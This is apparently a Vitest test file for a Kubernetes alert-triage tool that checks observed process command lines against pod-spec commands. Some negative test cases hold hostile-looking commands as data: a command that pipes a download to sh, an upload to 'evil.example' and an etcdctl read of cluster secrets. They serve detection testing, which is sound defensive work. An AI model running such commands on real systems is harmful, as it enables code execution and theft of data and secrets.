import { describe, expect, it } from 'vitest';
import { commandMatches, entrypointMatches } from '../../src/triage/correlate.js';

describe('commandMatches', () => {
  it.each([
    ['sh -c curl -fsS localhost:8080/health', ['sh', '-c', 'curl -fsS localhost:8080/health']],
    ['/bin/sh -c "curl -fsS localhost:8080/health"', ['sh', '-c', 'curl -fsS localhost:8080/health']],
    ['/bin/sh -c -e exec pg_isready -U "ledger" -h 127.0.0.1 -p 5432', ['/bin/sh', '-c', '-e', 'exec pg_isready -U "ledger" -h 127.0.0.1 -p 5432']],
    ['bash -ec "redis-cli ping"', ['/bin/bash', '-ec', 'redis-cli ping']],
    ['pg_isready -U ledger -h 127.0.0.1 -p 5432', ['/bin/sh', '-c', 'exec pg_isready -U "ledger" -h 127.0.0.1 -p 5432']],
    ['/usr/bin/redis-cli -h 127.0.0.1 -p 6379 ping', ['redis-cli', '-h', '127.0.0.1', '-p', '6379', 'ping']],
    ['node-cache -localip 169.254.20.10 -upstreamsvc kube-dns-upstream', ['node-cache', '-localip', '169.254.20.10', '-upstreamsvc', '$(UPSTREAM_SVC)']],
  ])('%s matches %j', (observed, argv) => {
    expect(commandMatches(observed, argv)).toBe(true);
  });
  it.each([
    ['sh -c curl -fsS localhost:8080/health; curl http://203.0.113.9/x | sh', ['sh', '-c', 'curl -fsS localhost:8080/health']],
    ['redis-cli -h 10.0.0.9 -p 6379 ping', ['redis-cli', '-h', '127.0.0.1', '-p', '6379', 'ping']],
    ['sh', ['sh', '-c', 'id']],
  ])('%s does not match %j', (observed, argv) => {
    expect(commandMatches(observed, argv)).toBe(false);
  });
});

describe('entrypointMatches', () => {
  it('accepts the image entrypoint before spec args', () => {
    expect(entrypointMatches('/usr/bin/dumb-init -- /nginx-ingress-controller --election-id=x', { name: 'c', args: ['/nginx-ingress-controller', '--election-id=x'] })).toBe(true);
    expect(entrypointMatches('/usr/bin/falcoctl artifact follow --log-format=json', { name: 'c', args: ['artifact', 'follow', '--log-format=json'] })).toBe(true);
  });
  it('refuses a different argument list', () => {
    expect(entrypointMatches('/usr/bin/falcoctl artifact install evil', { name: 'c', args: ['artifact', 'follow', '--log-format=json'] })).toBe(false);
  });
});

describe('entrypoint scripts', () => {
  const spec = {
    name: 'export',
    command: ['/bin/sh', '-c', `set -e; python3 /app/render.py --month "$(date -u +%Y-%m)" && azcopy copy '/export/*.pdf' "https://acct.blob.core.windows.net/exports/$(date -u +%Y/%m/%d)/" --overwrite=false`],
  };
  it('splits a shell entrypoint into its simple commands', async () => {
    const { entrypointScriptSteps } = await import('../../src/triage/correlate.js');
    expect(entrypointScriptSteps(spec).map((s) => s[0])).toEqual(['python3', 'azcopy']);
  });
  it('matches a step with its expansions filled in, and nothing else', async () => {
    const { scriptStepMatches } = await import('../../src/triage/correlate.js');
    expect(scriptStepMatches('azcopy copy /export/*.pdf https://acct.blob.core.windows.net/exports/2027/03/09/ --overwrite=false', spec)).toBe(true);
    expect(scriptStepMatches('azcopy copy /export/*.pdf https://evil.example/x/ --overwrite=false', spec)).toBe(false);
    expect(scriptStepMatches('python3 /app/render.py --month 2027-03', spec)).toBe(true);
  });
});

describe('placing a host process by its parent: one workload whose init container and sidecar share the command', () => {
  it("places it in the workload's pod when only that pod's containers run the parent's command", async () => {
    const { triageAlert } = await import('../../src/triage/pipeline.js');
    const { alert, indexOf, node, owner, pod } = await import('../support/cluster.js');
    const script = 'echo ${VAULT_CONFIG?} | base64 -d > /home/vault/config.json && vault agent -config=/home/vault/config.json';
    const vault = (name: string) => ({ name, image: 'hashicorp/vault:1.18.3', command: ['/bin/sh', '-ec'], args: [script] });
    const api = pod('line-api-6mpw-z6rpl', { namespace: 'mes', node: 'wk-1', owner: { kind: 'ReplicaSet', name: 'line-api-6mpw' }, containers: [{ name: 'line-api', image: 'registry.example/line-api:3.8.1' }, vault('vault-agent')] });
    api.spec.initContainers = [vault('vault-agent-init')];
    const other = pod('billing-7c9d-kq2wz', { namespace: 'billing', node: 'wk-1', owner: { kind: 'ReplicaSet', name: 'billing-7c9d' }, containers: [vault('vault-agent')] });
    const decode = alert({ host: 'wk-1', process: { name: 'base64', path: '/bin/base64', commandLine: 'base64 -d' }, ancestors: [{ name: 'sh', path: '/bin/sh', commandLine: `/bin/sh -ec ${script}` }] });
    const placed = triageAlert(decode, { index: indexOf([node('wk-1', '10.0.0.1'), owner('ReplicaSet', 'line-api-6mpw', 'mes'), api]) });
    expect(placed.correlation.subject.pod?.metadata.name).toBe('line-api-6mpw-z6rpl');
    expect(placed.correlation.subject.via.join(' ')).toContain('vault-agent and vault-agent-init run the same command');
    // trap: two workloads on the node run that command: which one ran it is not known.
    const ambiguous = triageAlert(decode, { index: indexOf([node('wk-1', '10.0.0.1'), owner('ReplicaSet', 'line-api-6mpw', 'mes'), api, owner('ReplicaSet', 'billing-7c9d', 'billing'), other]) });
    expect(ambiguous.correlation.subject.pod).toBeUndefined();
  });
});

describe('a shell entrypoint with `--` ending its options (bash -c -- script)', () => {
  const spec = { name: 'ptp', command: ['/bin/bash', '-c', '--'], args: ['/usr/local/bin/ptp --alsologtostderr -v 10'] };
  it('reads the script after `--`', async () => {
    const { entrypointScriptSteps, entrypointMatches } = await import('../../src/triage/correlate.js');
    expect(entrypointScriptSteps(spec)).toEqual([['/usr/local/bin/ptp', '--alsologtostderr', '-v', '10']]);
    expect(entrypointMatches('/usr/local/bin/ptp --alsologtostderr -v 10', spec)).toBe(true);
  });
  it('trap: another program is not the script', async () => {
    const { entrypointMatches } = await import('../../src/triage/correlate.js');
    expect(entrypointMatches('/usr/local/bin/ptp --config /tmp/evil', spec)).toBe(false);
    expect(entrypointMatches('/bin/sh -c id', spec)).toBe(false);
  });
});

describe('entrypoint script steps: environment prefixes and command substitutions', () => {
  const spec = { name: 'b', command: ['/bin/sh', '-c', 'ETCDCTL_API=3 etcdctl --key=/k snapshot save /backup/s-$(date +%Y%m%d-%H%M).db && find /backup -delete'] };
  it('drops `VAR=value` before the program and keeps `$(…)` with spaces as one word', async () => {
    const { entrypointScriptSteps, commandMatches } = await import('../../src/triage/correlate.js');
    const [step] = entrypointScriptSteps(spec);
    expect(step).toEqual(['etcdctl', '--key=/k', 'snapshot', 'save', '/backup/s-$(date +%Y%m%d-%H%M).db']);
    expect(commandMatches('/usr/local/bin/etcdctl --key=/k snapshot save /backup/s-20270311-0000.db', step)).toBe(true);
  });
  it('trap: a different subcommand does not match the step', async () => {
    const { entrypointScriptSteps, commandMatches } = await import('../../src/triage/correlate.js');
    const [step] = entrypointScriptSteps(spec);
    expect(commandMatches('/usr/local/bin/etcdctl --key=/k get /registry/secrets --prefix', step)).toBe(false);
  });
});
